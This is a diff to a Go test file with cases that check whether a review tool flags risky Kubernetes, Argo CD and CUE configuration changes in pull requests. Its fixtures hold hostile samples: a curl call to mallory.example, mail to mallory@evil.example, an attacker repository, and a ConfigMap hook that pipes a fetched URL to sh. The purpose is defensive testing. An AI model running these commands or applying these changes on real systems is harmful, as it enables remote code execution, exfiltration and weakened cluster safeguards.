@@ -37,7 +37,7 @@ func pullsOfPower() []pull {
 		changed("a role by an annotation", "DaemonSet", daemon("", ""), daemon(`"iam.amazonaws.com/role": "admin"`, ""), "annotations of pods"),
 		changed("another network", "DaemonSet", daemon("", ""), daemon(`"k8s.v1.cni.cncf.io/networks": "host-net"`, "")),
 		{kind: "power", name: "what people read", exit: -1, never: told, base: map[string]string{prod: object("DaemonSet", "x", daemon("", ""))}, head: map[string]string{prod: object("DaemonSet", "x", daemon(`"checksum/config": "1", "kubernetes.io/description": "x"`, ""))}},
-		changed("alerts that go", "PrometheusRule", alerts("A", "B"), alerts("A"), "no longer told"),
+		changed("alerts that go", "PrometheusRule", alerts("A", "B"), alerts("A"), "what people are told of"),
 		{kind: "power", name: "alerts that come", exit: -1, never: told, base: map[string]string{prod: object("PrometheusRule", "x", alerts("A"))}, head: map[string]string{prod: object("PrometheusRule", "x", alerts("A", "B"))}},
 		changed("no limits", "LimitRange", `spec: limits: [{type: "Container", max: cpu: "1"}]`, `spec: limits: [{type: "Container", max: cpu: "100"}]`),
 		changed("no quota of GPUs", "ResourceQuota", `spec: hard: {"requests.nvidia.com/gpu": "8", pods: "10"}`, `spec: hard: pods: "10"`, "requests.nvidia.com/gpu"),
@@ -67,6 +67,31 @@ func pullsOfPower() []pull {
 		{kind: "beside", name: "the workflow of another repository", exit: -1, wants: []string{"github.com/attacker/notebooks"}, base: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"a: b\\n\"\n"}, head: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"uses: attacker/notebooks/.github/workflows/x.yaml@main\\n\"\n"}},
 
 		{kind: "new", name: "a number that no computer holds", exit: 1, wants: []string{"schema/invalid-value", "cue/platform/prod/x.cue:2"}, head: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", metadata: namespace: "notebook-ci", data: a: 1e400}`)}},
+		{kind: "sync", name: "another repository, under another name", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`repository: "https://github.com/mallory/platform", namespace: "argo-cd"`)}},
+		{kind: "sync", name: "another namespace alone", exit: -1, never: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`namespace: "argo-cd"`)}},
+		{kind: "sync", name: "an Application for another", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: application("a")}, head: map[string]string{prod: strings.ReplaceAll(application("b"), `"x"`, `"z"`)}},
+
+		{kind: "new", name: "a secret for another namespace", exit: -1, wants: []string{"change/source-changed"}, base: map[string]string{prod: external("notebook-ci", "")}, head: map[string]string{prod: external("notebook-ci", "") + strings.TrimPrefix(external("elsewhere", ""), "package platform\n")}},
+		{kind: "new", name: "what becomes of a secret", exit: -1, wants: []string{"change/source-changed", "spec.target"}, base: map[string]string{prod: object("ExternalSecret", "x", externalSpec(""))}, head: map[string]string{prod: object("ExternalSecret", "x", externalSpec(`, template: type: "kubernetes.io/service-account-token"`))}},
+		added("a role of a cloud", "Role", `{apiVersion: "iam.aws.upbound.io/v1beta1", kind: "Role", metadata: {name: "y", namespace: "notebook-ci"}, spec: forProvider: {}}`, "change/power-changed"),
+		added("a service of another group", "Service", `{apiVersion: "serving.knative.dev/v1", kind: "Service", metadata: {name: "y", namespace: "notebook-ci"}, spec: template: {}}`, "change/power-changed"),
+		added("rights of another kind", "SecurityContextConstraints", `{apiVersion: "security.openshift.io/v1", kind: "SecurityContextConstraints", metadata: name: "y", allowPrivilegedContainer: true}`, "change/power-changed", "allowPrivilegedContainer"),
+		changed("a sandbox that is none", "RuntimeClass", `handler: "runsc"`, `handler: "runc"`),
+		{kind: "new", name: "a policy for other pods", exit: -1, wants: []string{"pods that are not among the objects"}, head: map[string]string{prod: inTarget("NetworkPolicy", `"kube-system/y"`, `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "y", namespace: "kube-system"}, spec: {podSelector: {}, policyTypes: ["Ingress"], ingress: [{}]}}`)}},
+		changed("a token of Prometheus", "ServiceMonitor", `spec: endpoints: [{port: "http"}]`, `spec: endpoints: [{port: "http", bearerTokenFile: "/var/run/secrets/kubernetes.io/serviceaccount/token"}]`),
+		{kind: "new", name: "settings that move", exit: -1, wants: told, base: map[string]string{prod: configMapIn("elsewhere")}, head: map[string]string{prod: configMapIn("kube-system")}},
+		changed("an alert that never fires", "PrometheusRule", alerts("A", "B"), strings.Replace(alerts("A", "B"), "up == 0", "up == 42", 1)),
+		{kind: "power", name: "alerts under another name", exit: -1, wants: told, base: map[string]string{prod: object("PrometheusRule", "x", alerts("A", "B"))}, head: map[string]string{prod: object("PrometheusRule", "z", alerts("A"))}},
+		changed("events of all namespaces", "EventListener", `spec: {serviceAccountName: "a", triggers: []}`, `spec: {serviceAccountName: "a", triggers: [], namespaceSelector: matchNames: ["*"]}`),
+		{kind: "power", name: "a guard of another kind goes", exit: -1, wants: told, base: map[string]string{prod: object("ClusterPolicy", "x", `spec: validationFailureAction: "Enforce"`)}, head: map[string]string{prod: ""}},
+		changed("nodes of another class", "NodePool", nodePool("safe"), nodePool("other")),
+		changed("mounts with more", "StorageClass", `provisioner: "efs.csi.aws.com", mountOptions: ["nosuid"]`, `provisioner: "efs.csi.aws.com", mountOptions: ["suid"]`),
+		changed("a class for all", "PriorityClass", `value: 10`, `value: 10, globalDefault: true`),
+		{kind: "beside", name: "commands of the cue tool", exit: -1, wants: []string{"mallory.example"}, head: map[string]string{"cue/platform/build_tool.cue": "package platform\nimport \"tool/exec\"\ncommand: x: exec.Run & {cmd: [\"curl\", \"https://mallory.example/x\"]}\n"}},
+		{kind: "beside", name: "whom a mail goes to", exit: -1, wants: []string{"mallory@evil.example"}, base: map[string]string{prod: aTask("mail a@good.example", "")}, head: map[string]string{prod: aTask("mail mallory@evil.example", "")}},
+		{kind: "lines", name: "code that no rule knows", exit: 0, wants: []string{"change/unexplained", "Task/x"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("false", "")}},
+		{kind: "judges", name: "strictness that goes with a name", exit: 1, wants: []string{"change/rule-weakened"}, base: map[string]string{"cue/platform/old/old.cue": strings.ReplaceAll(two, "dev", "old") + `, gate: failOn: "warning"}`, "cue/platform/platform.cue": statusOfOne}, head: map[string]string{"cue/platform/old/old.cue": "", "cue/platform/new/new.cue": strings.ReplaceAll(two, "dev", "new") + "}"}},
+
 		{kind: "links", name: "a question mark for a byte", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "??.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "links", name: "half a letter", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "?\xa9.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
 		{kind: "lines", name: "what a forge folds", head: map[string]string{".gitattributes": "cue/** linguist-generated -diff\n"}, exit: 1, wants: []string{"input/gitattributes", "fold"}},
@@ -81,7 +106,8 @@ func pullsOfPower() []pull {
 // versions are those of the kinds above.
 var versions = map[string]string{
 	"DaemonSet": "apps/v1", "PrometheusRule": "monitoring.coreos.com/v1", "LimitRange": "v1", "ResourceQuota": "v1", "ClusterQueue": "kueue.x-k8s.io/v1beta1", "EC2NodeClass": "karpenter.k8s.aws/v1",
-	"Ingress": "networking.k8s.io/v1", "TriggerBinding": "triggers.tekton.dev/v1beta1", "Job": "batch/v1", "ClusterInterceptor": "triggers.tekton.dev/v1alpha1",
+	"ExternalSecret": "external-secrets.io/v1", "RuntimeClass": "node.k8s.io/v1", "ServiceMonitor": "monitoring.coreos.com/v1", "EventListener": "triggers.tekton.dev/v1beta1", "ClusterPolicy": "kyverno.io/v1", "NodePool": "karpenter.sh/v1",
+	"StorageClass": "storage.k8s.io/v1", "PriorityClass": "scheduling.k8s.io/v1", "Ingress": "networking.k8s.io/v1", "TriggerBinding": "triggers.tekton.dev/v1beta1", "Job": "batch/v1", "ClusterInterceptor": "triggers.tekton.dev/v1alpha1",
 }
 
 // hookJob is what a hook of Argo CD runs.
@@ -92,4 +118,24 @@ func hookJob(command string) string {
 // hooksOf is a ConfigMap whose keys are called like secrets and hold what is run.
 func hooksOf(python, shell, command string) string {
 	return inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: {"refresh_token.py": "import os\n`+python+`\n", TOKEN_HOOK: "`+shell+`${IFS}-s${IFS}$URL|sh", PASSWORD_CMD: "__import__('os').system('`+command+`')"}}`)
+}
+
+// externalSpec is what a vault gives, and what becomes of it.
+func externalSpec(target string) string {
+	return `spec: {secretStoreRef: {name: "vault", kind: "ClusterSecretStore"}, target: {name: "x"` + target + `}, data: [{secretKey: "a", remoteRef: key: "ci/smtp"}]}`
+}
+
+// external is a secret of a vault in a namespace.
+func external(namespace, target string) string {
+	return inTarget("ExternalSecret", `"`+namespace+`/x"`, `{apiVersion: "external-secrets.io/v1", kind: "ExternalSecret", metadata: {name: "x", namespace: "`+namespace+`"}, `+externalSpec(target)+`}`)
+}
+
+// configMapIn is a ConfigMap that stands somewhere.
+func configMapIn(namespace string) string {
+	return inTarget("ConfigMap", `"`+namespace+`/node-local-dns"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "node-local-dns", namespace: "`+namespace+`"}, data: Corefile: ".:53 { forward . 9.9.9.9 }"}`)
+}
+
+// nodePool has nodes of a class.
+func nodePool(class string) string {
+	return `spec: template: spec: {nodeClassRef: {group: "karpenter.k8s.aws", kind: "EC2NodeClass", name: "` + class + `"}, requirements: []}`
 }
